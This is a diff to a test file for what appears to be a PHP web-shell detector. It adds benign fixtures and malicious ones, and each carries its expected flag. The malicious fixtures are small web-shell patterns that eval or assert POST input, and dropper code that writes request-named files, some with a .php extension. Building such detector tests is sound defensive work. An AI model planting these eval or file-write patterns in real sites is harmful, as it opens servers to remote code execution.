@@ -87,6 +87,38 @@ ESCAPED_BLOCK_EVAL = (
     _MODAL_HTML + "<?php $x = escapeshellarg($_GET['d']); $c = $_POST['c']; eval($c); ?>\n"
 ).encode()
 
+# A network tool (customer admin pages): ping runs only after filter_var(FILTER_VALIDATE_IP) passed.
+VALIDATED_PING = php(
+    "$host = isset($_GET['host']) ? $_GET['host'] : '';\n"
+    "if ($host !== '' && filter_var($host, FILTER_VALIDATE_IP)) {\n"
+    "  $cmd = 'ping -c 3 ' . $host;\n  $out = shell_exec($cmd);\n"
+    "  echo '<pre>' . htmlspecialchars($out) . '</pre>';\n}"
+)
+VALIDATED_AND_EVAL = php("$ok = filter_var($_GET['ip'], FILTER_VALIDATE_IP);\n$c = $_POST['c'];\nassert($c);")
+
+# A flat-file notes / JSON store: the request-named path ends in a fixed data extension.
+NOTES_STORE = php(
+    "session_start();\nif (empty($_SESSION['user'])) { exit; }\n"
+    "$file = __DIR__ . '/notes/' . $_POST['id'] . '.txt';\n$body = $_POST['body'];\n"
+    "file_put_contents($file, $body);\necho 'saved';"
+)
+NOTES_ANY_NAME = php(
+    "$file = __DIR__ . '/notes/' . $_POST['id'];\n$body = $_POST['body'];\n"
+    "file_put_contents($file, $body);\necho 'saved';"
+)
+NOTES_PHP_EXT = php(
+    "$file = __DIR__ . '/' . $_POST['id'] . '.php';\n$body = $_POST['body'];\n"
+    "file_put_contents($file, $body);\necho 'saved';"
+)
+DRAFT_TXT = php(
+    "$id = $_POST['id'];\n$text = $_POST['text'];\n$file = \"drafts/$id.txt\";\n"
+    "$fp = fopen($file, 'w');\nfwrite($fp, $text);\nfclose($fp);"
+)
+DRAFT_ANY = php(
+    "$id = $_POST['id'];\n$text = $_POST['text'];\n$file = \"drafts/$id\";\n"
+    "$fp = fopen($file, 'w');\nfwrite($fp, $text);\nfclose($fp);"
+)
+
 CASES: list[tuple[str, bytes, bool]] = [
     ("SPAMGEAR_EVASION_EvalOfStoredOrStreamed", STDIN_BOOTSTRAP, False),
     ("SPAMGEAR_EVASION_EvalOfStoredOrStreamed", STDIN_REPL, False),
@@ -102,4 +134,11 @@ CASES: list[tuple[str, bytes, bool]] = [
     ("SPAMGEAR_INJECTED_SmallBlockInputToSink", ESCAPED_BLOCK, False),
     ("SPAMGEAR_INJECTED_SmallBlockInputToSink", ESCAPED_BLOCK_PLANTED, True),
     ("SPAMGEAR_INJECTED_SmallBlockInputToSink", ESCAPED_BLOCK_EVAL, True),
+    ("SPAMGEAR_INPUT_SmallInputAndSink", VALIDATED_PING, False),
+    ("SPAMGEAR_INPUT_SmallInputAndSink", VALIDATED_AND_EVAL, True),
+    ("SPAMGEAR_DROPPER_RequestPathAndBodyWrite", NOTES_STORE, False),
+    ("SPAMGEAR_DROPPER_RequestPathAndBodyWrite", NOTES_ANY_NAME, True),
+    ("SPAMGEAR_DROPPER_RequestPathAndBodyWrite", NOTES_PHP_EXT, True),
+    ("SPAMGEAR_TINY_InputVarsPathAndBodyWrite", DRAFT_TXT, False),
+    ("SPAMGEAR_TINY_InputVarsPathAndBodyWrite", DRAFT_ANY, True),
 ]
